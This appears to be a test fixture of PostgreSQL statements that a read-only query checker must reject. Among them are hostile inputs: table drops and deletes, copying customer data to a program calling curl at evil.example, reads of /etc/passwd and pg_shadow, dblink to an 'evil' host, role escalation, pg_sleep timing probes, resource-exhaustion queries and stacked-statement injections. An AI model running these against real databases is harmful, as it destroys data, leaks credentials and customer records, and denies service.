-- Of these none may give rows.
insert into region values (9, 'X', 'x')

update region set r_name = 'X'

delete from region

truncate region

drop table region

alter table region add column x int

create table stolen as select * from customer

create temp table t (a int)

create view v as select 1

create function f() returns int language sql as 'select 1'

grant all on region to public

copy customer to '/tmp/stolen.csv'

copy customer to program 'curl http://evil.example'

copy (select * from customer) to stdout

select * into stolen from customer

select * into temp stolen from customer

with gone as (delete from region returning *) select * from gone

with new as (insert into region values (9, 'X', 'x') returning *) select * from new

with changed as (update region set r_name = 'X' returning *) select r_name from changed

with m as (merge into region using nation on false when not matched then do nothing returning 1) select 1

select * from region for update

select * from region for no key update

select * from region for key share

select * from (select * from region for share) x

lock table region

begin

commit; drop table region

select 1; drop table region

select 1; select 2

explain analyze delete from region

explain select 1

do $$ begin delete from corpus.region; end $$

call pg_catalog.pg_reload_conf()

set role postgres

set session authorization postgres

reset all

show data_directory

listen x

notify x, 'y'

prepare p as select 1

execute p

declare c cursor for select 1

fetch all from c

vacuum

analyze

checkpoint

load 'auto_explain'

discard all

security label on table region is 'x'

select pg_read_file('/etc/passwd')

select pg_read_binary_file('/etc/passwd')

select pg_ls_dir('/')

select * from pg_ls_dir('/') as f(name)

select pg_stat_file('/etc/passwd')

select lo_import('/etc/passwd')

select lo_export(1, '/tmp/x')

select lo_from_bytea(0, 'x')

select pg_sleep(1)

select count(*) from region where pg_sleep(1) is null

select case when true then pg_sleep(1)::text end as year from events

select month from month order by pg_sleep(1)

select interval '1' day + (pg_sleep(1)::text)::interval

select set_config('search_path', 'public', false)

select current_setting('data_directory')

select pg_terminate_backend(pg_backend_pid())

select pg_cancel_backend(1)

select pg_reload_conf()

select pg_rotate_logfile()

select pg_switch_wal()

select pg_advisory_lock(1)

select pg_try_advisory_lock(1)

select nextval('s')

select setval('s', 1)

select currval('s')

select pg_notify('x', 'y')

select txid_current()

select pg_export_snapshot()

select query_to_xml('select 1', true, true, '')

select table_to_xml('corpus.region', true, true, '')

select database_to_xml(true, true, '')

select cursor_to_xml('c', 1, true, true, '')

select ts_stat('select 1')

select ts_rewrite('a'::tsquery, 'select 1')

select dblink('host=evil', 'select 1')

select dblink_exec('host=evil', 'drop table x')

select pg_logical_emit_message(true, 'x', 'y')

select has_table_privilege('postgres', 'region', 'select')

select pg_get_viewdef('pg_user'::regclass)

select pg_get_functiondef('lower(text)'::regprocedure)

select col_description('region'::regclass, 1)

select 'pg_shadow'::regclass

select '16384'::regclass::text

select 'postgres'::regrole

select to_regclass('pg_shadow')

select cast('pg_authid' as regclass) as month

select 1::regproc

select * from pg_shadow

select * from pg_catalog.pg_authid

select * from "pg_catalog"."pg_user"

select * from information_schema.tables

select * from pg_stat_activity

select * from pg_settings

select * from pg_roles

select month.month from month, pg_shadow

select * from public.orders

select * from sales.orders

select * from postgres.corpus.region

with pg_shadow as (select 1) select * from pg_shadow

select (select count(*) from pg_class)

select 1 as year union select usename::text::int from pg_user

select current_user

select session_user as year

select current_database()

select current_schema()

select user

select inet_server_addr()

select version()

select region.pg_relation_size from region

select region.quote_ident from region

select (region).pg_column_size from region

select e.lo_unlink from (select 1 as x) e

select region::text::xml from region

select xmlparse(document '<a/>')

select xmlelement(name foo, 'x')

select * from xmltable('/a' passing '<a/>' columns x text path '.')

select * from region tablesample system (10)

select * from json_populate_record(null::pg_shadow, '{}')

select repeat('x', 1000000000)

select lpad('x', 1000000000)

select format('%1000000000s', 'x')

select string_agg(a.l_comment || b.l_comment, '') from lineitem a, lineitem b

with recursive r as (select 'x' as s union all select s || s from r) select max(length(s)) from r

with recursive r as (select 1 as n union all select n + 1 from r) select count(*) from r

select count(*) from lineitem a, lineitem b, lineitem c

select count(*) from generate_series(1, 10000000000)

select count(*) from generate_series(1, 1000000) as year, generate_series(1, 1000000) as month

select E'\' ; drop table region; --'

select U&'\0027; drop table region; --'

select $$a$$; drop table region

select $x$ ' $x$, pg_sleep(1)

select 'a' 'b'; drop table region

select 1 /* /* */ ; drop table region */

select "year" "month" "day"; drop table region

select year from events; drop table region

select '\'; drop table region; --'

select 1 // ; drop table region

select 1 as "x"";drop table region;--"; drop table region

select `r_name` from region; drop table region
